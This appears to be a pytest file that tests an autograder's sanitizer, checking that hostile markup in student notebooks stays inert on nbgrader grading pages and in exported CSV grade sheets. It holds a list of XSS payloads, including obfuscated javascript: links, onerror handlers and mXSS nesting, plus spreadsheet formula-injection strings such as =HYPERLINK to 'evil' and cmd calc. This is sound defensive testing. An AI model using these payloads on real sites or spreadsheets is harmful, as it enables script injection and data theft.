"""Student content is inert on the instructor's pages and in the spreadsheets (autograder.reports.sanitize).

The payloads are rendered by nbconvert's real ``HTMLExporter`` with nbgrader's own formgrader
template (read from the installed nbgrader), as the formgrader renders a submission; the
browser-level proof that nothing runs is ``tests/browser/test_hostile_content.py``.
"""

from __future__ import annotations

import base64
import copy
import csv
import html
import re
from collections import Counter
from pathlib import Path

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbgrader.server_extensions.formgrader import handlers as formgrader_handlers
from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension
from traitlets.config import Config

from autograder.reports.exports import write_canvas_csv, write_grades_csv
from autograder.reports.model import Cohort, Submission
from autograder.reports.page import render
from autograder.reports.sanitize import (
    MARKER,
    SanitizeNotebook,
    clean_html,
    csv_cell,
    markdown_html,
    verbatim_markdown,
)

SANITIZER = "autograder.reports.sanitize.SanitizeNotebook"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
"""A 1x1 PNG."""
PAYLOADS = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<IMG SRC=x OnErRoR=window.__pwned=1>",
    "<svg onload=window.__pwned=1><script>window.__pwned=1</script></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    '<a href="javascript:window.__pwned=1">click</a>',
    '<a href="jav&#x09;ascript:window.__pwned=1">click</a>',
    '<a href="JaVaScRiPt&colon;window.__pwned=1">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "<iframe src=\"javascript:window.__pwned=1\"></iframe><iframe srcdoc='<script>parent.__pwned=1</script>'>",
    "<object data=x></object><embed src=x>",
    '<form action="/api/contents"><button formaction="javascript:window.__pwned=1">go</button></form>',
    "<details open ontoggle=window.__pwned=1>",
    "<style>body{background:url(http://127.0.0.1:9/leak)}</style>",
    '<div style="background:url(http://127.0.0.1:9/leak)">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    '<base href="javascript:/"><meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    '<link rel=stylesheet href="http://127.0.0.1:9/x.css">',
    '<img src="http://127.0.0.1:9/track.png">',
    '<span class="score tabbable" id="grade_id">fake score box</span>',
]
"""Script, handlers, encoded and split variants, navigation, frames, forms, remote styles, clobbering."""
ACTIVE = frozenset(
    {*("script", "noscript", "template", "style", "link", "meta", "base", "iframe", "frame", "frameset"),
     *("object", "embed", "applet", "portal", "form", "button", "input", "select", "textarea", "option"),
     *("svg", "math", "audio", "video", "source", "track", "canvas", "xmp", "plaintext", "marquee")}
)  # fmt: skip
"""Elements that run code, load or embed something, submit or restyle the page: none may come from a student.
Named here, not read from the sanitizer's allow-list (a test against the code's own list passes whatever it says)."""
FORBIDDEN = re.compile(
    r"<(script|iframe|object|embed|form|style|svg|math|base|meta|link|button|input)\b|\son\w+\s*=|javascript:|"
    r"data:text|url\(|srcdoc|http://127|id=.grade_id|\sstyle=",
    re.IGNORECASE,
)


def hostile_notebook() -> nbformat.NotebookNode:
    """Every payload in a markdown cell, in HTML, markdown and SVG outputs, in an attachment and in raw cells."""
    nb = nbformat.v4.new_notebook()
    joined = "\n\n".join(PAYLOADS)
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=1</script></svg>'
    attachment = {"evil.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()}}
    code = nbformat.v4.new_code_cell("display(...)")
    code.outputs = [
        nbformat.v4.new_output("display_data", {"text/html": joined, "text/plain": "x"}),
        nbformat.v4.new_output("display_data", {"text/markdown": joined}),
        nbformat.v4.new_output("display_data", {"image/svg+xml": svg}),
        nbformat.v4.new_output("display_data", {"application/javascript": "window.__pwned=1"}),
        nbformat.v4.new_output(
            "display_data", {"text/html": "<b>isolated</b>"}, metadata={"text/html": {"isolated": True}}
        ),
        nbformat.v4.new_output("display_data", {"image/png": '"><script>window.__pwned=1</script>'}),
    ]
    md_attachment = nbformat.v4.new_markdown_cell("![x](attachment:evil.svg)", attachments=attachment)
    nb.cells = [
        nbformat.v4.new_markdown_cell(joined),
        md_attachment,
        nbformat.v4.new_markdown_cell(
            '![x](attachment:y.png "a\\" onerror=\\"window.__pwned=1")', attachments={"y.png": {"image/png": PNG}}
        ),
        code,
        nbformat.v4.new_raw_cell(joined, metadata={"raw_mimetype": "text/html"}),
    ]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    return nb


def ordinary_notebook() -> nbformat.NotebookNode:
    """What an honest submission shows: markdown, math, a table, code, a plot and an attached image."""
    nb = nbformat.v4.new_notebook()
    code = nbformat.v4.new_code_cell("plt.plot(x)")
    code.outputs = [
        nbformat.v4.new_output("display_data", {"image/png": PNG, "text/plain": "<Figure>"}),
        nbformat.v4.new_output(
            "execute_result",
            {"text/html": '<table class="dataframe"><tr><th>a</th></tr><tr><td>1</td></tr></table>'},
            execution_count=1,
        ),
    ]
    nb.cells = [
        nbformat.v4.new_markdown_cell(
            "# Answer\n\nThe loss is $x^2$ and\n\n$$\\int_0^1 f(x)\\,dx$$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
            "```python\nx = 1\n\ny = 2\n```\n\nSee [the docs](https://pytorch.org) ![plot](attachment:p.png)"
        ),
        code,
    ]
    nb.cells[0].attachments = {"p.png": {"image/png": PNG}}
    return nb


def bare(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """``nb`` without anything a student wrote or printed: every source empty, no outputs, attachments or widgets.
    Its page has only what the template puts there (nbgrader's score boxes and comment fields on graded cells)."""
    nb = copy.deepcopy(nb)
    nb.metadata.pop("widgets", None)
    for cell in nb.cells:
        cell.source = ""
        cell.pop("attachments", None)
        if cell.cell_type == "code":
            cell.outputs = []
    return nb


def formgrader_html(nb: nbformat.NotebookNode, *, sanitized: bool = True) -> str:
    """The submission page as the formgrader renders it: its own config and template, plus the course's line."""
    config = FormgradeExtension().build_extra_config()
    if sanitized:
        config.HTMLExporter.preprocessors = [SANITIZER]
    resources = {"base_url": "", "submission_id": "s", "notebook_id": "n", "assignment_id": "a", "index": 0}
    resources |= {"total": 1, "student": "st", "last_name": "", "first_name": "", "notebook_path": "p"}
    body, _ = HTMLExporter(config=config).from_notebook_node(nb, resources=resources)
    return str(body)


def student_part(page: str) -> str:
    """The page with the formgrader's own head and navigation cut off: what the notebook put in it."""
    return page[page.index('id="notebook-container"') :]


def test_stock_formgrader_page_carries_the_payloads() -> None:
    """Without the preprocessor, the hole the issue describes: the student's markup reaches the page."""
    page = formgrader_html(hostile_notebook(), sanitized=False)
    assert "<script>window.__pwned=1</script>" in page and "onerror=window.__pwned=1" in page
    assert {"script", "iframe", "form", "svg", "style"} <= set(added_elements(page, formgrader_html(bare_hostile())))


def template_styles() -> set[str]:
    """The ``style`` attributes nbgrader's own formgrade template puts on its score boxes, as :func:`markup`
    reports them (read from the installed template)."""
    template = Path(formgrader_handlers.template_path, "formgrade", "index.html.j2").read_text()
    return {f"<{tag} style={style.lower()}>" for tag, style in re.findall(r'<(\w+)[^>]*\sstyle="([^"]*)"', template)}


def markup(page: str) -> tuple[Counter[str], list[str]]:
    """The tags of a page, each with its count, and its attributes that could act or load (beyond the formgrader
    template's own score boxes)."""
    from html.parser import HTMLParser

    tags: Counter[str] = Counter()
    acting: list[str] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            tags[tag] += 1
            for name, raw in attrs:
                value = (raw or "").strip().lower()
                kept = value.startswith(("https:", "mailto:", "#", "data:image/png", "data:image/jpeg"))
                kept = (
                    kept
                    or (tag == "img" and value.startswith("data:image/svg"))
                    or (tag == "a" and value[:5] == "http:")
                )
                loads_or_acts = name.startswith("on") or name in ("style", "srcdoc", "formaction", "action")
                if loads_or_acts or (name in ("href", "src") and not kept) or (name == "id" and value == "grade_id"):
                    acting.append(f"<{tag} {name}={value[:60]}>")

    Tags().feed(page)
    return tags, [a for a in acting if a not in template_styles()]


def added_elements(page: str, bare_page: str) -> list[str]:
    """The :data:`ACTIVE` elements ``page`` has beyond ``bare_page`` (the same notebook's page without the
    student's content, or an honest submission's: the template's own scripts, styles and score boxes cancel out)."""
    return sorted(tag for tag in (markup(page)[0] - markup(bare_page)[0]).elements() if tag in ACTIVE)


def bare_hostile() -> nbformat.NotebookNode:
    return bare(hostile_notebook())


def test_formgrader_page_keeps_no_payload() -> None:
    page = formgrader_html(hostile_notebook())
    assert markup(student_part(page))[1] == []
    assert added_elements(page, formgrader_html(bare_hostile())) == []


def test_a_graded_cells_score_boxes_are_the_templates_not_the_students() -> None:
    """On a graded cell the template adds its own inputs and buttons; a student's still do not get through."""
    nb = hostile_notebook()
    for cell in nb.cells:
        cell.metadata["nbgrader"] = {"grade": True, "grade_id": f"c{len(cell.source)}", "points": 1, "solution": True}
        cell.metadata["nbgrader"] |= {"locked": False, "schema_version": 3}
    template = formgrader_html(bare(nb))
    assert {"input", "button"} <= set(markup(template)[0]), "the formgrade template shows its score boxes"
    assert added_elements(formgrader_html(nb), template) == []
    assert {"form", "script"} <= set(added_elements(formgrader_html(nb, sanitized=False), template))


def test_ordinary_content_still_renders() -> None:
    page = student_part(formgrader_html(ordinary_notebook()))
    assert "$x^2$" in page and "\\int_0^1 f(x)\\,dx" in page  # left for MathJax
    assert "<table>" in page and "<td>1</td>" in page  # markdown table
    assert '<table class="dataframe">' in page  # a pandas output
    assert f'src="data:image/png;base64,{PNG}"' in page  # the plot and the attachment
    assert page.count(f"data:image/png;base64,{PNG}") == 2
    assert '<a href="https://pytorch.org"' in page
    (code,) = re.findall(r'<div class="highlight"><pre>(.*?)</pre>', page, re.DOTALL)
    assert html.unescape(re.sub(r"<[^>]*>", "", code)).strip() == "x = 1\n\ny = 2"  # highlighted, blank line kept


def test_markdown_is_rendered_once_and_passes_the_template_verbatim() -> None:
    from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

    html = markdown_html("# T\n\ntext $a<b$\n\n```\nx\n\n<y>\n```\n\n- [ ] [a](#b)\n")
    wrapped = verbatim_markdown(html)
    assert MarkdownWithMath(renderer=IPythonRenderer(escape=False)).render(wrapped).strip() == wrapped


def test_a_student_cannot_skip_sanitizing_by_writing_the_marker() -> None:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(MARKER + "<img src=x onerror=window.__pwned=1>")]
    nb, _ = SanitizeNotebook().preprocess(nb, {})
    assert "onerror" not in nb.cells[0].source


def test_sanitizing_twice_changes_nothing_more() -> None:
    """A notebook may pass two sanitizers (nbgrader's feedback exporter with the course's line, then ours)."""
    once, _ = SanitizeNotebook().preprocess(hostile_notebook(), {})
    twice, _ = SanitizeNotebook().preprocess(nbformat.reads(nbformat.writes(once), as_version=4), {})
    assert twice == once


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_is_cleaned(payload: str) -> None:
    assert not FORBIDDEN.search(clean_html(payload)), clean_html(payload)


def test_mathjax_commands_that_act_are_defused() -> None:
    cleaned = clean_html(r"$\href{javascript:window.__pwned=1}{x}$ $\style{background:url(x)}{y}$ $x^2$")
    assert r"\href" not in cleaned and r"\style" not in cleaned and "$x^2$" in cleaned


# Spreadsheets


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", "' =1"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("29", "29"),
        ("1e3", "1e3"),
        ("", ""),
        ("alice", "alice"),
    ],
)
def test_csv_cells_cannot_start_a_formula(value: str, written: str) -> None:
    assert csv_cell(value) == written


def test_exports_neutralise_student_ids_names_and_messages(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")'
    cohort = Cohort(
        assignment="week3",
        checks=[],
        max_score=29.0,
        submissions=[
            Submission(evil, "error", in_gradebook=True, score=-1.5, message="@SUM(1+1)*cmd|' /C calc'!A0"),
            Submission("bo", "graded", in_gradebook=True, score=29.0, first_name="+Bo", last_name="-Lee"),
        ],
    )
    with (write_grades_csv(cohort, tmp_path / "grades.csv")).open(newline="") as handle:
        grades = list(csv.DictReader(handle))
    assert grades[0]["student"] == "'" + evil
    assert grades[0]["message"].startswith("'@")
    assert grades[0]["score"] == "-1.5" and grades[1]["score"] == "29"
    canvas = list(csv.reader((write_canvas_csv(cohort, tmp_path / "canvas.csv")).open(newline="")))
    assert canvas[2][3] == "'" + evil and canvas[3][0] == "'-Lee, +Bo"
    every = [cell for row in canvas + [list(r.values()) for r in grades] for cell in row]
    assert not [c for c in every if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-1.5")]


# The cohort page


def test_cohort_page_shows_student_messages_as_text_under_a_csp() -> None:
    from autograder.reports.page import plots, summarise

    payload = "<img src=x onerror=window.__pwned=1><script>window.__pwned=1</script>"
    cohort = Cohort(
        assignment="week3",
        checks=[],
        max_score=29.0,
        submissions=[Submission("ana", "error", in_gradebook=True, score=0.0, max_score=29.0, message=payload)],
    )
    summary = summarise(cohort)
    page = render(summary, {}, plots(summary))
    assert payload not in page and "&lt;img src=x onerror" in page
    assert policy_problems(page) == []


def policy(page: str) -> tuple[int, dict[str, set[str]]]:
    """Where a page's Content-Security-Policy ``<meta>`` is, and its directives with their sources."""
    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    assert meta, "no Content-Security-Policy in the page"
    directives = (d.split() for d in html.unescape(meta[1]).split(";") if d.strip())
    return meta.start(), {name: set(sources) for name, *sources in directives}


def policy_problems(page: str) -> list[str]:
    """What in a page's policy would let inline script run, a page send data away or load from elsewhere, or
    what in the page comes before the policy covers it."""
    at, directives = policy(page)
    problems = [f"{name} is not 'none'" for name in ("default-src", "connect-src", "form-action", "object-src",
                "base-uri", "frame-src") if directives.get(name) != {"'none'"}]  # fmt: skip
    scripts = directives.get("script-src", directives["default-src"])
    problems += [f"script-src allows {s}" for s in sorted(scripts) if s in ("'unsafe-inline'", "*", "data:", "http:")]
    problems += [f"script-src allows {s}" for s in sorted(scripts) if s.startswith("'nonce-") or s.endswith("*")]
    problems += [f"img-src allows {s}" for s in sorted(directives.get("img-src", set()) - {"data:"})]
    first = min((page.find(tag) for tag in ("<style", "<script", "<link", "<img") if tag in page), default=at)
    return problems + (["the policy comes after what it should cover"] if first < at else [])


def test_the_policy_check_finds_a_weak_policy() -> None:
    weak = '<head><script>x</script><meta http-equiv="Content-Security-Policy" content="default-src *; script-src'
    weak += " 'unsafe-inline'; img-src data: http:\">"
    assert policy_problems(weak) == [
        *(f"{name} is not 'none'" for name in ("default-src", "connect-src", "form-action", "object-src")),
        *("base-uri is not 'none'", "frame-src is not 'none'", "script-src allows 'unsafe-inline'"),
        *("img-src allows http:", "the policy comes after what it should cover"),
    ]


def test_config_line_hooks_into_any_html_exporter() -> None:
    config = Config()
    config.HTMLExporter.preprocessors = [SANITIZER]
    exporter = HTMLExporter(config=config)
    assert any(isinstance(p, SanitizeNotebook) for p in exporter._preprocessors)


def test_feedback_pages_are_rendered_through_the_sanitizer_under_a_csp() -> None:
    from autograder.course import Course
    from autograder.reports.feedback import feedback_course
    from autograder.reports.sanitize import with_csp
    from tests.helpers import ROOT

    config = feedback_course(Course.load(ROOT)).config
    assert config.HTMLExporter.preprocessors[-1] == SANITIZER
    page = with_csp("<!DOCTYPE html>\n<html>\n<head>\n<meta charset='utf-8'><script src=x></script></head>")
    assert policy_problems(page) == [] and with_csp(page) == page


def test_an_unusable_attachment_does_not_stop_the_cell_rendering() -> None:
    nb = nbformat.v4.new_notebook()
    bad = {"x.svg": {"image/svg+xml": "PHN2Zz4="}, "y.png": {"image/png": 'x" onerror="window.__pwned=1'}}
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Title\n\n![a](attachment:x.svg) ![b](attachment:y.png)", attachments=bad)
    ]
    nb, _ = SanitizeNotebook().preprocess(nb, {})
    assert "<h1>Title" in nb.cells[0].source and nb.cells[0].source.count('src="data:image/png;base64,"') == 2
    assert "onerror" not in nb.cells[0].source


def test_listed_in_a_converters_preprocessors_it_runs() -> None:
    """nbgrader's converters register ``GenerateFeedback.preprocessors`` with nbconvert's default ``enabled=False``:
    the sanitizer is on all the same (as nbgrader's own steps are)."""
    exporter = HTMLExporter()
    exporter.register_preprocessor(SANITIZER)
    hostile = exporter.from_notebook_node(hostile_notebook())[0]
    assert added_elements(hostile, exporter.from_notebook_node(bare_hostile())[0]) == []
    ordinary = markup(exporter.from_notebook_node(ordinary_notebook())[0])
    assert set(markup(hostile)[1]) <= set(ordinary[1]), "attributes that could act, beyond the template's own"
